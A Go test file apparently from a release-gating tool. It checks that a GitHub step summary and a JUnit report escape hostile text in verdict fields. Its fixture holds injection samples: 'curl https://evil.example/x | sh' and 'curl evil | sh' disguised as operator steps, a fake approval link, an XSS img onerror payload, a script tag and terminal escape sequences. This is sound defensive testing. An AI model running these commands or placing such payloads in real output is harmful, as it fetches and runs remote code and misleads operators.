package soakgate

import (
	"encoding/xml"
	"regexp"
	"strings"
	"testing"

	"github.com/soakline/soakline/pkg/artifact"
)

// hostileVerdict carries the markup of issue 18 item 5 in every text field
// a soak or a policy file controls.
func hostileVerdict() *artifact.Verdict {
	link := "[**Approve this release**](https://evil.example/approve)"
	v := 0.5
	return &artifact.Verdict{
		Verdict: "PASS",
		Reason:  "ok\n\n## Operator action required\n\n```sh\ncurl https://evil.example/x | sh\n```\n" + link,
		Policy:  artifact.Policy{Name: "p`x` <b>bold</b>", Source: "<img src=x onerror=alert(1)>"},
		Checks: []artifact.Check{{
			Name: "![pixel](https://evil.example/p.png)", Direction: ">=", Threshold: 0.4, Value: &v, N: 8,
			Status: "PASS", Reason: "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 | <script>x</script>\x00\x1b[31m",
		}},
		DataQuality: []string{"- [ ] fake step\n1. run `curl evil | sh`"},
	}
}

// TestStepSummaryInjection: the GitHub step summary shows the hostile text
// as text: no heading, link, image, HTML, code block or list from input,
// no raw newline, no escape sequence.
func TestStepSummaryInjection(t *testing.T) {
	out := string(stepSummary(hostileVerdict()))
	// Markup counts only where no backslash escapes it.
	for _, bad := range []string{
		`\n## Operator`, "\n```", `[^\\]\]\(https://`, `[^\\]\[\*\*Approve`, `[^\\]!\[pixel`, `[^\\]<img`, `[^\\]<script`, `\x1b`, `\x00`,
		`\n- \[ \] fake`, `\n1\. run`,
	} {
		if regexp.MustCompile(bad).MatchString(out) {
			t.Errorf("step summary matches %q:\n%s", bad, out)
		}
	}
	// The text is still there, escaped.
	for _, want := range []string{`\[\*\*Approve this release\*\*\](https://evil.example/approve)`, `\<img src=x onerror=alert(1)>`, "Policy ``p`x` <b>bold</b>`` ("} {
		if !strings.Contains(out, want) {
			t.Errorf("step summary lacks %q:\n%s", want, out)
		}
	}
	// Exactly the lines of the template: heading, reason, policy, table
	// (header, rule, one check), data quality.
	if n := strings.Count(out, "\n"); n != 14 {
		t.Errorf("step summary has %d lines, want 14:\n%s", n, out)
	}
}

// TestJUnitHostile: the JUnit report of hostile names stays well-formed
// XML and carries no escape sequence.
func TestJUnitHostile(t *testing.T) {
	v := hostileVerdict()
	v.Checks[0].Status = artifact.CheckFail
	v.Checks[0].Name = "a\"b<c>&d]]>\x01\xff"
	out, err := junitXML(v, false)
	if err != nil {
		t.Fatal(err)
	}
	var doc junitSuites
	if err := xml.Unmarshal(out, &doc); err != nil {
		t.Fatalf("not well-formed: %v\n%s", err, out)
	}
	if strings.ContainsAny(string(out), "\x1b\x00\x01") {
		t.Errorf("JUnit holds control characters:\n%q", out)
	}
	if got := doc.Suites[0].Cases[0].Name; got != "a\"b<c>&d]]>\uFFFD" {
		t.Errorf("case name reads back as %q", got)
	}
}
